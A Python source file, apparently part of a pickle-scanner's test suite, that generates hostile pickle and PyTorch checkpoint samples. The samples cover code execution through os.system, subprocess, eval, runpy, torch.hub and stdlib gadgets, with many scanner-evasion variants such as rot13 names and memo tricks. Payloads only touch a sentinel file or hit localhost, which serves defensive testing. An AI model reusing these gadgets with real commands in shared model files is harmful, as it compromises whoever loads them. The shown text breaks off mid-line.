"""A peer corpus of hostile pickle and checkpoint files, generated in code (issue 17,
item 5).

The technique families imitate the public test suites of the pickle scanners
(picklescan's ``tests/init_data_files.py``, fickling's ``test/test_bypasses.py`` and
``test_expansion_attack_analysis.py``, modelscan's injection helpers) and the scanner
bypasses reported against them; every byte here is written from scratch.

Every payload is harmless and observable: it tries to create its own sentinel file
(``touch`` through a shell or a process, ``open(..., 'w')`` in Python code, a file
handler) or to open a connection to 127.0.0.1 port 9, and nothing else. Whether the
real loaders do run it is never assumed: ``tests/peer_groundtruth.py`` loads every
sample with ``pickle.load``, ``pickle.loads`` and ``torch.load(weights_only=False)``
in a throwaway process whose audit hook blocks process spawning and network access
and records what ran. ``Sample.expect`` is only what the generator means to happen;
the tests check it against the ground truth so a broken payload cannot hide.

    samples = peer_corpus.samples(folder)      # specs only, nothing written
    peer_corpus.write_corpus(samples)          # the files, helper files, folders
"""

from __future__ import annotations

import functools
import io
import marshal
import os
import pickle
import pickletools
import shlex
import shutil
import struct
import subprocess
import zipfile
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from pathlib import Path

import _hostile_files as H
import torch

LEGACY_MAGIC = 0x1950A86A20F9469CFC6C
TOUCH = shutil.which("touch") or "/usr/bin/touch"
NOWHERE = ("127.0.0.1", 9)  # the discard port: nothing listens, and the hook blocks it

# --------------------------------------------------------------------------- samples


@dataclass
class Sample:
    """One hostile file. ``make`` returns its bytes; ``helpers`` the side files its
    payload refers to (a script, a hubconf folder, an inner checkpoint)."""

    family: str
    name: str  # unique: "<family>/<variant>"
    path: Path
    sentinel: Path
    container: str  # pickle | zip | zip-bare | legacy | legacy-bare | zip-trick | ...
    weights: bool  # the file holds the PeerNet weights (fc.weight 4x3, fc.bias 4)
    protocol: int | None
    expect: bool | None  # the generator's intent under the real loaders (None: unsure)
    make: Callable[[], bytes] = field(repr=False)
    helpers: Callable[[], dict[Path, bytes]] = field(repr=False, default=dict)
    setup: dict = field(default_factory=dict)  # {"ext": [[module, name, code]]}
    note: str = ""

    @functools.cached_property
    def data(self) -> bytes:
        return self.make()

    def write(self) -> Path:
        self.path.parent.mkdir(parents=True, exist_ok=True)
        data = self.data  # builds the helper files' contents too
        for helper, content in self.helpers().items():
            helper.parent.mkdir(parents=True, exist_ok=True)
            helper.write_bytes(content)
        self.path.write_bytes(data)
        return self.path


def write_corpus(samples: list[Sample]) -> None:
    for s in samples:
        s.sentinel.parent.mkdir(parents=True, exist_ok=True)
        s.write()


# --------------------------------------------------------------------------- assembler


def _escape0(value: str) -> bytes:
    """Protocol 0 UNICODE argument, escaped the way CPython's pickler does it."""
    for ch, esc in (("\\", "\\u005c"), ("\0", "\\u0000"), ("\n", "\\u000a"),
                    ("\r", "\\u000d"), ("\x1a", "\\u001a")):
        value = value.replace(ch, esc)
    return value.encode("raw_unicode_escape")


class Asm:
    """Opcodes for one protocol: protocol 0 uses text opcodes only, 1 adds the binary
    ones, 2 adds PROTO/NEWOBJ/TUPLEn, 3 bytes, 4 STACK_GLOBAL/MEMOIZE/FRAME."""

    def __init__(self, protocol: int, stack_global: bool | None = None) -> None:
        self.p = protocol
        self.sg = protocol >= 4 if stack_global is None else stack_global

    def header(self) -> bytes:
        return b"\x80" + bytes([self.p]) if self.p >= 2 else b""

    def whole(self, body: bytes) -> bytes:
        return self.header() + body + b"."

    def s(self, value: str) -> bytes:
        if self.p == 0:
            return b"V" + _escape0(value) + b"\n"
        raw = value.encode("utf-8", "surrogatepass")
        if self.p >= 4 and len(raw) < 256:
            return b"\x8c" + bytes([len(raw)]) + raw
        return b"X" + struct.pack("<I", len(raw)) + raw

    def b(self, value: bytes) -> bytes:
        if self.p >= 3:
            if len(value) < 256:
                return b"C" + bytes([len(value)]) + value
            return b"B" + struct.pack("<I", len(value)) + value
        # what the real pickler writes for bytes below protocol 3
        return self.call(self.g("_codecs", "encode"), self.s(value.decode("latin-1")),
                         self.s("latin1"))

    def i(self, n: int) -> bytes:
        if self.p == 0:
            return b"I%d\n" % n
        if 0 <= n < 256:
            return b"K" + bytes([n])
        if 0 <= n < 65536:
            return b"M" + struct.pack("<H", n)
        return b"J" + struct.pack("<i", n)

    def true(self) -> bytes:
        return b"\x88" if self.p >= 2 else b"I01\n"

    def g(self, module: str, name: str) -> bytes:
        if self.sg:
            return self.s(module) + self.s(name) + b"\x93"
        return b"c" + module.encode() + b"\n" + name.encode() + b"\n"

    def t(self, *items: bytes) -> bytes:
        if not items:
            return b")" if self.p >= 1 else b"(t"
        if self.p >= 2 and len(items) <= 3:
            return b"".join(items) + (b"\x85", b"\x86", b"\x87")[len(items) - 1]
        return b"(" + b"".join(items) + b"t"

    def l(self, *items: bytes) -> bytes:  # noqa: E743
        return b"(" + b"".join(items) + b"l"

    def d(self, *pairs: tuple[bytes, bytes]) -> bytes:
        return b"(" + b"".join(k + v for k, v in pairs) + b"d"

    def call(self, func: bytes, *args: bytes) -> bytes:
        return func + self.t(*args) + b"R"

    def kw(self, func: bytes, args: list[bytes], kwargs: dict[str, bytes]) -> bytes:
        """func(*args, **kwargs): a functools.partial whose state BUILD sets, called."""
        partial = self.g("functools", "partial")
        state = self.t(func, self.t(*args), self.d(*[(self.s(k), v) for k, v in
                                                     kwargs.items()]), b"N")
        return self.call(partial, func) + state + b"b" + self.t() + b"R"

    def put(self, n: int) -> bytes:
        if self.p == 0:
            return b"p%d\n" % n
        return b"q" + bytes([n]) if n < 256 else b"r" + struct.pack("<I", n)

    def get(self, n: int) -> bytes:
        if self.p == 0:
            return b"g%d\n" % n
        return b"h" + bytes([n]) if n < 256 else b"j" + struct.pack("<I", n)

    # gadgets used by many families
    def module(self, name: str) -> bytes:
        """The module object itself, through builtins.__import__."""
        return self.call(self.g("builtins", "__import__"), self.s(name))

    def attr(self, obj: bytes, name: str) -> bytes:
        return self.call(self.g("builtins", "getattr"), obj, self.s(name))


def frame(length: int) -> bytes:
    return b"\x95" + struct.pack("<Q", length)


# --------------------------------------------------------------------------- payload context


@dataclass
class Ctx:
    sentinel: Path
    helper_dir: Path
    files: dict[Path, bytes] = field(default_factory=dict)

    @property
    def cmd(self) -> str:
        return f"touch {shlex.quote(str(self.sentinel))}"

    @property
    def argv(self) -> list[str]:
        return [TOUCH, str(self.sentinel)]

    @property
    def code(self) -> str:
        """A Python expression (so eval accepts it too) that creates the sentinel."""
        return f"open({str(self.sentinel)!r}, 'w').close()"

    def helper(self, name: str, content: bytes) -> Path:
        path = self.helper_dir / name
        self.files[path] = content
        return path


def argv_list(a: Asm, x: Ctx) -> bytes:
    return a.l(*[a.s(v) for v in x.argv])


class _Reduce:
    """Pickled by the real pickler as func(*args)."""

    def __init__(self, func: Callable, *args: object) -> None:
        self.func, self.args = func, args

    def __reduce__(self):
        return self.func, self.args


def inner_system_pickle(x: Ctx, protocol: int = 2) -> bytes:
    """A complete pickle (the real pickler's output) that calls os.system."""
    return pickle.dumps(_Reduce(os.system, x.cmd), protocol=protocol)


# --------------------------------------------------------------------------- containers


@functools.cache
def _zip_records(weights: bool) -> tuple[tuple[str, bytes], ...]:
    return tuple(H.torch_records(H.small_state() if weights else {}))


@functools.cache
def _legacy_bytes(weights: bool) -> bytes:
    buf = io.BytesIO()
    torch.save(H.small_state() if weights else {}, buf, _use_new_zipfile_serialization=False)
    return buf.getvalue()


def legacy_segments(weights: bool = True) -> list[bytes]:
    """magic, protocol version, sys_info, main pickle, storage keys, raw storages."""
    data = _legacy_bytes(weights)
    out, pos = [], 0
    for _ in range(5):
        end = H.pickle_bounds(data, pos)
        out.append(data[pos:end])
        pos = end
    out.append(data[pos:])
    return out


def benign_data_pkl(weights: bool = True) -> bytes:
    return dict(_zip_records(weights))["archive/data.pkl"]


def zip_bytes(records: list[tuple[str, bytes]], *, deflate: set[str] | None = None) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_STORED) as z:
        for name, data in records:
            method = zipfile.ZIP_DEFLATED if deflate and name in deflate else zipfile.ZIP_STORED
            z.writestr(zipfile.ZipInfo(name, (1980, 1, 1, 0, 0, 0)), data,
                       compress_type=method)
    return buf.getvalue()


def with_data_pkl(data_pkl: bytes, weights: bool = True) -> list[tuple[str, bytes]]:
    return [(n, data_pkl if n == "archive/data.pkl" else d) for n, d in _zip_records(weights)]


def embed(body: bytes, a: Asm, lead: bytes = b"") -> bytes:
    """A pickle that runs ``body`` (its value popped) and then builds the benign state
    dict; ``lead`` pushes and pops something first (a pickle may start with any opcode)."""
    return a.header() + lead + body + b"0" + benign_data_pkl()[2:]


def zip_with_body(body: bytes, a: Asm, lead: bytes = b"") -> bytes:
    return zip_bytes(with_data_pkl(embed(body, a, lead)))


def zip_bare(pkl: bytes) -> bytes:
    """A torch archive of an empty dict whose data.pkl is ``pkl``: no weights."""
    return zip_bytes(with_data_pkl(pkl, weights=False))


def legacy_with_body(body: bytes, a: Asm, lead: bytes = b"") -> bytes:
    seg = legacy_segments(True)
    assert seg[3][:2] == b"\x80\x02"
    main = a.header() + lead + body + b"0" + seg[3][2:]
    return b"".join(seg[:3]) + main + b"".join(seg[4:])


def legacy_bare(pkl: bytes) -> bytes:
    seg = legacy_segments(False)
    return b"".join(seg[:3]) + pkl + b"".join(seg[4:])


CONTAINERS = ("pickle", "zip", "zip-bare", "legacy", "legacy-bare")
SUFFIX = {"pickle": ".pkl", "zip": ".pt", "zip-bare": ".pt", "legacy": ".pt",
          "legacy-bare": ".pt"}


def contain(container: str, body: bytes, a: Asm, lead: bytes = b"") -> bytes:
    if container == "pickle":
        return a.header() + lead + body + b"."
    if container == "zip":
        return zip_with_body(body, a, lead)
    if container == "zip-bare":
        return zip_bare(a.header() + lead + body + b".")
    if container == "legacy":
        return legacy_with_body(body, a, lead)
    if container == "legacy-bare":
        return legacy_bare(a.header() + lead + body + b".")
    raise ValueError(container)


# --------------------------------------------------------------------------- recipe table

Recipe = Callable[[Asm, Ctx], bytes]
Matrix = list[tuple[int, str]]

FULL: Matrix = [(0, "pickle"), (1, "pickle"), (2, "pickle"), (3, "pickle"), (4, "pickle"),
                (5, "pickle"), (2, "zip"), (4, "zip"), (2, "legacy")]
MID: Matrix = [(0, "pickle"), (2, "pickle"), (4, "pickle"), (2, "zip"), (2, "legacy")]
LIGHT: Matrix = [(2, "pickle"), (4, "pickle"), (2, "zip")]
PAIR: Matrix = [(2, "pickle"), (2, "zip")]
DOTTED: Matrix = [(4, "pickle"), (4, "zip")]
PY2: Matrix = [(0, "pickle"), (1, "pickle"), (2, "pickle"), (0, "zip"), (2, "zip"),
               (2, "legacy"), (4, "pickle"), (4, "zip")]


@dataclass
class Family:
    name: str
    recipes: dict[str, Recipe]
    matrix: Matrix
    expect: Callable[[str, int, str], bool | None] = lambda recipe, p, c: True
    matrices: dict[str, Matrix] = field(default_factory=dict)  # per-recipe override
    note: str = ""


def _families() -> list[Family]:
    fams: list[Family] = []

    def fam(name: str, matrix: Matrix, **kw) -> Callable[[dict[str, Recipe]], dict]:
        def deco(recipes: dict[str, Recipe]) -> dict[str, Recipe]:
            fams.append(Family(name, recipes, matrix, **kw))
            return recipes
        return deco

    # -- builtins eval / exec / compile (picklescan Malicious1, modelscan Exec/Eval)
    fam("builtins-eval-exec-compile", FULL)({
        "eval": lambda a, x: a.call(a.g("builtins", "eval"), a.s(x.code)),
        "exec": lambda a, x: a.call(a.g("builtins", "exec"), a.s(x.code)),
        "exec-compiled": lambda a, x: a.call(a.g("builtins", "exec"), a.call(
            a.g("builtins", "compile"), a.s(x.code), a.s("<peer>"), a.s("exec"))),
        "eval-compiled": lambda a, x: a.call(a.g("builtins", "eval"), a.call(
            a.g("builtins", "compile"), a.s(x.code), a.s("<peer>"), a.s("eval"))),
    })

    # -- os / posix / nt system and friends (picklescan Malicious2)
    fam("os-posix-nt-system", LIGHT,
        matrices={"os.system": MID, "posix.system": MID, "posix._exit": [(2, "pickle")]},
        expect=lambda r, p, c: not r.startswith("nt."))({
        "os.system": lambda a, x: a.call(a.g("os", "system"), a.s(x.cmd)),
        "posix.system": lambda a, x: a.call(a.g("posix", "system"), a.s(x.cmd)),
        "nt.system": lambda a, x: a.call(a.g("nt", "system"), a.s(x.cmd)),
        "os.popen": lambda a, x: a.call(a.g("os", "popen"), a.s(x.cmd)),
        "posix.posix_spawn": lambda a, x: a.call(a.g("posix", "posix_spawn"), a.s(TOUCH),
                                                 argv_list(a, x), a.d()),
        "os.spawnlp": lambda a, x: a.call(a.g("os", "spawnlp"), a.i(0), a.s("touch"),
                                          a.s("touch"), a.s(str(x.sentinel))),
        "posix.execv": lambda a, x: a.call(a.g("posix", "execv"), a.s(TOUCH),
                                           argv_list(a, x)),
        # ends the loading process: the ground truth worker must lose only this sample
        "posix._exit": lambda a, x: a.call(a.g("posix", "_exit"), a.i(3)),
    })

    # -- subprocess (picklescan Malicious7, fickling multiprocessing)
    fam("subprocess", LIGHT)({
        "Popen": lambda a, x: a.call(a.g("subprocess", "Popen"), argv_list(a, x)),
        "run": lambda a, x: a.call(a.g("subprocess", "run"), argv_list(a, x)),
        "call": lambda a, x: a.call(a.g("subprocess", "call"), argv_list(a, x)),
        "check_call": lambda a, x: a.call(a.g("subprocess", "check_call"), argv_list(a, x)),
        "check_output": lambda a, x: a.call(a.g("subprocess", "check_output"),
                                            argv_list(a, x)),
        "getoutput": lambda a, x: a.call(a.g("subprocess", "getoutput"), a.s(x.cmd)),
        "getstatusoutput": lambda a, x: a.call(a.g("subprocess", "getstatusoutput"),
                                               a.s(x.cmd)),
        "run-shell-kwargs": lambda a, x: a.kw(a.g("subprocess", "run"), [a.s(x.cmd)],
                                              {"shell": a.true()}),
    })

    # -- runpy (picklescan Malicious14, fickling GHSA-wfq2)
    def run_path(a: Asm, x: Ctx) -> bytes:
        script = x.helper("payload.py", (x.code + "\n").encode())
        return a.call(a.g("runpy", "run_path"), a.s(str(script)))

    fam("runpy", LIGHT)({
        "_run_code": lambda a, x: a.call(a.g("runpy", "_run_code"), a.s(x.code), a.d()),
        "run_path": run_path,
        "_run_module_code": lambda a, x: a.call(a.g("runpy", "_run_module_code"),
                                                a.s(x.code), a.d(), a.s("peer")),
    })

    # -- importlib (fickling GHSA-q5qq)
    fam("importlib", LIGHT)({
        "import_module-getattr": lambda a, x: a.call(a.attr(a.call(
            a.g("importlib", "import_module"), a.s("os")), "system"), a.s(x.cmd)),
        "import_module-subprocess": lambda a, x: a.call(a.attr(a.call(
            a.g("importlib", "import_module"), a.s("subprocess")), "getoutput"), a.s(x.cmd)),
        "importlib.__import__": lambda a, x: a.call(a.attr(a.call(
            a.g("importlib", "__import__"), a.s("posix")), "system"), a.s(x.cmd)),
    })

    # -- Python 2 names that fix_imports maps below protocol 3 (_compat_pickle)
    def py2_urlretrieve(a: Asm, x: Ctx) -> bytes:
        source = x.helper("source.txt", b"peer corpus\n")
        return a.call(a.g("urllib", "urlretrieve"), a.s(source.as_uri()),
                      a.s(str(x.sentinel)))

    def py2_cpickle(a: Asm, x: Ctx) -> bytes:
        return a.call(a.g("cPickle", "loads"), a.b(inner_system_pickle(x)))

    def py2_reduce(a: Asm, x: Ctx) -> bytes:
        # functools.reduce(getattr, ['system'], __import__('posix')) -> posix.system
        system = a.call(a.g("__builtin__", "reduce"), a.g("__builtin__", "getattr"),
                        a.l(a.s("system")),
                        a.call(a.g("__builtin__", "__import__"), a.s("posix")))
        return a.call(system, a.s(x.cmd))

    fam("py2-fix-imports", PY2,
        expect=lambda r, p, c: p < 3,
        note="Python 2 names: the C unpickler maps them only below protocol 3")({
        "__builtin__.eval": lambda a, x: a.call(a.g("__builtin__", "eval"), a.s(x.code)),
        "__builtin__.getattr-import": lambda a, x: a.call(a.call(
            a.g("__builtin__", "getattr"),
            a.call(a.g("__builtin__", "__import__"), a.s("os")), a.s("system")),
            a.s(x.cmd)),
        "__builtin__.reduce": py2_reduce,
        "urllib2.urlopen": lambda a, x: a.call(a.g("urllib2", "urlopen"),
                                               a.s(f"http://{NOWHERE[0]}:{NOWHERE[1]}/peer")),
        "urllib.urlretrieve": py2_urlretrieve,
        "BaseHTTPServer.HTTPServer": lambda a, x: a.call(
            a.g("BaseHTTPServer", "HTTPServer"), a.t(a.s("127.0.0.1"), a.i(0)),
            a.g("BaseHTTPServer", "BaseHTTPRequestHandler")),
        "SocketServer.TCPServer": lambda a, x: a.call(
            a.g("SocketServer", "TCPServer"), a.t(a.s("127.0.0.1"), a.i(0)),
            a.g("SocketServer", "BaseRequestHandler")),
        "commands.getoutput": lambda a, x: a.call(a.g("commands", "getoutput"), a.s(x.cmd)),
        "cPickle.loads": py2_cpickle,
        "urllib.urlopen": lambda a, x: a.call(a.g("urllib", "urlopen"),
                                              a.s(f"http://{NOWHERE[0]}:{NOWHERE[1]}/")),
        "SimpleXMLRPCServer": lambda a, x: a.call(
            a.g("SimpleXMLRPCServer", "SimpleXMLRPCServer"), a.t(a.s("127.0.0.1"), a.i(0))),
        "copy_reg.add_extension-EXT1": lambda a, x: a.call(
            a.g("copy_reg", "add_extension"), a.s("posix"), a.s("system"), a.i(241))
        + b"0" + b"\x82\xf1" + a.t(a.s(x.cmd)) + b"R",
        "httplib.HTTPConnection-connect": lambda a, x: a.call(a.call(
            a.g("__builtin__", "getattr"),
            a.call(a.g("httplib", "HTTPConnection"), a.s(NOWHERE[0]), a.i(NOWHERE[1])),
            a.s("connect"))),
    })

    # -- STACK_GLOBAL whose strings come from the memo or are built while loading
    def sg_memo_text(a: Asm, x: Ctx) -> bytes:  # picklescan malicious11 (text memo)
        return (b"Vposix\np2\n0Vsystem\np3\n0Vtorch\np0\n0VLongStorage\np1\n0"
                b"g2\ng3\n\x93(V" + _escape0(x.cmd) + b"\ntR")

    def sg_string_opcode(a: Asm, x: Ctx) -> bytes:  # picklescan GHSA-9gvj (STRING args)
        return b"S'posix'\nS'system'\n\x93S" + repr(x.cmd).encode() + b"\n\x85R"

    def sg_short_binstring(a: Asm, x: Ctx) -> bytes:
        return (b"U\x05posixU\x06system\x93" + b"T" + struct.pack("<I", len(x.cmd))
                + x.cmd.encode() + b"\x85R")

    def sg_binunicode8(a: Asm, x: Ctx) -> bytes:
        def u8(v: str) -> bytes:
            return b"\x8d" + struct.pack("<Q", len(v)) + v.encode()
        return u8("posix") + u8("system") + b"\x93" + u8(x.cmd) + b"\x85R"

    def sg_long_binput(a: Asm, x: Ctx) -> bytes:
        return (a.s("posix") + b"r\x00\x00\x01\x00" + b"0" + a.s("system") + b"r\x01\x00\x01\x00"
                + b"0" + b"j\x00\x00\x01\x00j\x01\x00\x01\x00\x93" + a.s(x.cmd) + b"\x85R")

    def sg_memoize(a: Asm, x: Ctx) -> bytes:  # fickling's pty/runpy shapes
        return (a.s("posix") + b"\x94" + a.s("system") + b"\x94" + b"\x93\x94"
                + a.s(x.cmd) + b"\x94\x85\x94R\x94")

    def sg_memo_overwrite(a: Asm, x: Ctx) -> bytes:
        # memo 0 holds a decoy first, then the real module name
        return (a.s("collections") + b"q\x000" + a.s("posix") + b"q\x000" + b"h\x00"
                + a.s("system") + b"\x93" + a.s(x.cmd) + b"\x85R")

    def sg_codecs_decode(a: Asm, x: Ctx) -> bytes:
        name = a.call(a.g("_codecs", "decode"), a.b(b"system"), a.s("ascii"))
        return a.s("posix") + name + b"\x93" + a.s(x.cmd) + b"\x85R"

    def sg_rot13(a: Asm, x: Ctx) -> bytes:
        mod = a.call(a.g("_codecs", "decode"), a.s("cbfvk"), a.s("rot13"))
        return mod + a.s("system") + b"\x93" + a.s(x.cmd) + b"\x85R"

    def sg_str_join(a: Asm, x: Ctx) -> bytes:
        join = a.g("builtins", "str.join")
        mod = a.call(join, a.s(""), a.l(a.s("pos"), a.s("ix")))
        return mod + a.s("system") + b"\x93" + a.s(x.cmd) + b"\x85R"

    def sg_bytes_decode(a: Asm, x: Ctx) -> bytes:
        name = a.call(a.g("builtins", "bytes.decode"), a.b(b"exec"))
        return a.s("builtins") + name + b"\x93" + a.s(x.code) + b"\x85R"

    def sg_keyerror_after(a: Asm, x: Ctx) -> bytes:  # picklescan keyerror-exploit
        return (b"cposix\nsystem\n" + a.s(x.cmd) + b"\x85R0" + a.s("posix") + b"\x94"
                + b"h\x03h\x00\x93")

    def sg_bytes_args(a: Asm, x: Ctx) -> bytes:  # STACK_GLOBAL needs str: refused
        return b"C\x05posixC\x06system\x93" + a.s(x.cmd) + b"\x85R"

    fam("stack-global-memo-built", [(4, "pickle"), (4, "zip")],
        matrices={"memo-text-headerless": [(0, "pickle"), (0, "zip"), (0, "legacy")],
                  "string-opcode-headerless": [(0, "pickle"), (0, "zip")]},
        expect=lambda r, p, c: r != "bytes-args")({
        "memo-text-headerless": sg_memo_text,
        "string-opcode-headerless": sg_string_opcode,
        "short-binstring": sg_short_binstring,
        "binunicode8": sg_binunicode8,
        "long-binput": sg_long_binput,
        "memoize": sg_memoize,
        "memo-overwrite": sg_memo_overwrite,
        "codecs-decode-name": sg_codecs_decode,
        "rot13-module": sg_rot13,
        "str-join-module": sg_str_join,
        "bytes-decode-name": sg_bytes_decode,
        "keyerror-after-payload": sg_keyerror_after,
        "bytes-args": sg_bytes_args,
    })

    # -- INST and OBJ (picklescan malicious10, fickling PR 108 and GHSA-mxhj)
    fam("inst-obj", PAIR,
        matrices={"inst-__builtin__-exec": [(0, "pickle"), (0, "zip")],
                  "obj-stack-global": DOTTED,
                  "obj-smtplib-popped": DOTTED})({
        "inst-builtins-eval": lambda a, x: b"(" + a.s(x.code) + b"ibuiltins\neval\n",
        "inst-posix-system": lambda a, x: b"(" + a.s(x.cmd) + b"iposix\nsystem\n",
        "inst-subprocess-Popen": lambda a, x: b"(" + argv_list(a, x)
        + b"isubprocess\nPopen\n",
        "inst-__builtin__-exec": lambda a, x: b"(" + a.s(x.code) + b"i__builtin__\nexec\n",
        "obj-global": lambda a, x: b"(" + a.g("builtins", "exec") + a.s(x.code) + b"o",
        "obj-stack-global": lambda a, x: b"(" + a.g("posix", "system") + a.s(x.cmd) + b"o",
        "obj-smtplib-popped": lambda a, x: b"(" + a.g("smtplib", "SMTP") + a.s(NOWHERE[0])
        + a.i(NOWHERE[1]) + b"o0N",
    })

    # -- NEWOBJ / NEWOBJ_EX
    def newobj_map(consumer: tuple[str, str]) -> Recipe:
        def recipe(a: Asm, x: Ctx) -> bytes:
            mapped = (a.g("builtins", "map") + a.t(a.g("posix", "system"), a.l(a.s(x.cmd)))
                      + b"\x81")
            return a.call(a.g(*consumer), mapped)
        return recipe

    fam("newobj-newobj-ex", PAIR,
        matrices={k: [(4, "pickle"), (4, "zip")] for k in (
            "newobj_ex-partial-system", "newobj_ex-partial-kwargs")})({
        "newobj-partial-exec": lambda a, x: a.g("functools", "partial")
        + a.t(a.g("builtins", "exec"), a.s(x.code)) + b"\x81" + a.t() + b"R",
        "newobj_ex-partial-system": lambda a, x: a.g("functools", "partial")
        + a.t(a.g("posix", "system"), a.s(x.cmd)) + b"}" + b"\x92" + a.t() + b"R",
        "newobj_ex-partial-kwargs": lambda a, x: a.g("functools", "partial")
        + a.t(a.g("subprocess", "run"), a.s(x.cmd)) + b"}" + a.s("shell") + b"\x88s"
        + b"\x92" + a.t() + b"R",
        "newobj-map-into-list": newobj_map(("builtins", "list")),
        "newobj-map-into-set": newobj_map(("builtins", "set")),
        "newobj-map-into-bytearray": newobj_map(("builtins", "bytearray")),
        "newobj-starmap-into-set": lambda a, x: a.call(a.g("builtins", "set"), a.g(
            "itertools", "starmap") + a.t(a.g("posix", "system"), a.l(a.t(a.s(x.cmd))))
            + b"\x81"),
    })

    # -- BUILD: __setstate__ and __dict__ gadgets
    def setstate_injection(cls: tuple[str, str], target: tuple[str, str],
                           arg: Callable[[Ctx], str]) -> Recipe:
        def recipe(a: Asm, x: Ctx) -> bytes:
            inst = a.call(a.g(*cls))
            state = a.d((a.s("__setstate__"), a.g(*target)))
            return inst + state + b"b" + a.s(arg(x)) + b"b"
        return recipe

    fam("build-setstate-dict", PAIR)({
        "partial-setstate-swap": lambda a, x: a.call(a.g("functools", "partial"),
                                                     a.g("builtins", "len"))
        + a.t(a.g("posix", "system"), a.t(a.s(x.cmd)), a.d(), b"N") + b"b" + a.t() + b"R",
        "dict-setstate-namespace": setstate_injection(("argparse", "Namespace"),
                                                      ("posix", "system"), lambda x: x.cmd),
        "dict-setstate-simplenamespace": setstate_injection(
            ("types", "SimpleNamespace"), ("builtins", "exec"), lambda x: x.code),
        "dict-setstate-ordereddict": setstate_injection(
            ("collections", "OrderedDict"), ("builtins", "exec"), lambda x: x.code),
    })

    # -- getattr / attribute chains that build the callable while loading
    def ctypes_system(a: Asm, x: Ctx) -> bytes:
        libc = a.call(a.g("ctypes", "CDLL"), b"N")
        return a.call(a.attr(libc, "system"), a.b(x.cmd.encode()))

    fam("getattr-chains", LIGHT,
        matrices={"object-getattribute": DOTTED, "dict-get-sys-modules": DOTTED,
                  "vars-dict-get": DOTTED})({
        "getattr-import-os-system": lambda a, x: a.call(
            a.attr(a.module("os"), "system"), a.s(x.cmd)),
        "getattr-import-builtins-exec": lambda a, x: a.call(
            a.attr(a.module("builtins"), "exec"), a.s(x.code)),
        "object-getattribute": lambda a, x: a.call(a.call(
            a.g("builtins", "object.__getattribute__"), a.module("posix"), a.s("system")),
            a.s(x.cmd)),
        "dict-get-sys-modules": lambda a, x: a.call(a.attr(a.call(
            a.g("builtins", "dict.get"), a.g("sys", "modules"), a.s("posix")), "system"),
            a.s(x.cmd)),
        "vars-dict-get": lambda a, x: a.call(a.call(
            a.g("builtins", "dict.get"), a.call(a.g("builtins", "vars"), a.module("posix")),
            a.s("system")), a.s(x.cmd)),
        "pydoc-locate": lambda a, x: a.call(a.call(a.g("pydoc", "locate"),
                                                   a.s("os.system")), a.s(x.cmd)),
        "methodcaller-pydoc-locate": lambda a, x: a.call(a.call(
            a.g("operator", "methodcaller"), a.s("system"), a.s(x.cmd)),
            a.call(a.g("pydoc", "locate"), a.s("os"))),
        "ctypes-cdll-system": ctypes_system,
    })

    # -- nested pickles
    def nested(module: str, name: str, protocol: int = 2) -> Recipe:
        def recipe(a: Asm, x: Ctx) -> bytes:
            return a.call(a.g(module, name), a.b(inner_system_pickle(x, protocol)))
        return recipe

    def unpickler_load(a: Asm, x: Ctx) -> bytes:
        stream = a.call(a.g("_io", "BytesIO"), a.b(inner_system_pickle(x)))
        unpickler = a.call(a.g("pickle", "Unpickler"), stream)
        return a.call(a.call(a.g("operator", "methodcaller"), a.s("load")), unpickler)

    def twice_nested(a: Asm, x: Ctx) -> bytes:
        inner = pickle.dumps(_Reduce(pickle.loads, inner_system_pickle(x)), protocol=3)
        return a.call(a.g("pickle", "loads"), a.b(inner))

    fam("nested-pickle", [(3, "pickle"), (2, "zip")],
        matrices={"ConfigModule.load_config": DOTTED})({
        "pickle.loads": nested("pickle", "loads"),
        "_pickle.loads": nested("_pickle", "loads"),
        "pickle._loads": nested("pickle", "_loads"),
        "pickle.Unpickler-load": unpickler_load,
        "loads-of-loads": twice_nested,
        "ConfigModule.load_config": lambda a, x: a.call(
            a.g("torch.utils._config_module", "ConfigModule.load_config"), a.d(),
            a.b(inner_system_pickle(x))),
        "datapipes-basichandlers": lambda a, x: a.call(
            a.g("torch.utils.data.datapipes.utils.decoder", "basichandlers"),
            a.s("pickle"), a.b(inner_system_pickle(x))),
    })

    # -- torch's own callables (picklescan GHSA-f745, -jhph, -vr7h, Malicious19)
    def hub_load(a: Asm, x: Ctx) -> bytes:
        x.helper("hub/hubconf.py", (f"{x.code}\n\ndef peer():\n    return 1\n").encode())
        return a.kw(a.g("torch.hub", "load"), [a.s(str(x.helper_dir / "hub")), a.s("peer")],
                    {"source": a.s("local"), "trust_repo": a.true()})

    def nested_torch_load(module: str) -> Recipe:
        def recipe(a: Asm, x: Ctx) -> bytes:
            inner = x.helper("inner.pt", inner_system_pickle(x))
            return a.kw(a.g(module, "load"), [a.s(str(inner))],
                        {"weights_only": b"\x89" if a.p >= 2 else b"I00\n"})
        return recipe

    fam("torch-gadgets", PAIR,
        matrices={"collect_env.run": [(2, "pickle"), (2, "zip"), (2, "legacy")]})({
        "collect_env.run": lambda a, x: a.call(a.g("torch.utils.collect_env", "run"),
                                               a.s(x.cmd)),
        "collect_env.run_and_read_all": lambda a, x: a.call(
            a.g("torch.utils.collect_env", "run_and_read_all"),
            a.g("torch.utils.collect_env", "run"), a.s(x.cmd)),
        "hub.load-local": hub_load,
        "torch.load-nested": nested_torch_load("torch"),
        "serialization.load-nested": nested_torch_load("torch.serialization"),
        "jit-execWrapper": lambda a, x: a.call(
            a.g("torch.jit.unsupported_tensor_ops", "execWrapper"), a.s(x.code), a.d(),
            a.d()),
    })

    # -- stdlib functions that run a command (fickling GHSA-5hwf, picklescan GHSA-g38g)
    def mailcap(a: Asm, x: Ctx) -> bytes:
        caps = a.d((a.s("text/plain"), a.l(a.d((a.s("view"), a.s("cat %s")),
                                                (a.s("test"), a.s(x.cmd))))))
        return a.call(a.g("mailcap", "findmatch"), caps, a.s("text/plain"))

    fam("stdlib-command-gadgets", PAIR)({
        "uuid._get_command_stdout": lambda a, x: a.call(
            a.g("uuid", "_get_command_stdout"), a.s("touch"), a.s(str(x.sentinel))),
        "_osx_support._find_build_tool": lambda a, x: a.call(
            a.g("_osx_support", "_find_build_tool"), a.s(f"x; {x.cmd} #")),
        "imaplib.IMAP4_stream": lambda a, x: a.call(a.g("imaplib", "IMAP4_stream"),
                                                    a.s(x.cmd)),
        "mailcap.findmatch": mailcap,
        "pydoc.pipepager": lambda a, x: a.call(a.g("pydoc", "pipepager"), a.s("x"),
                                               a.s(x.cmd)),
        "pydoc.tempfilepager": lambda a, x: a.call(a.g("pydoc", "tempfilepager"), a.s("x"),
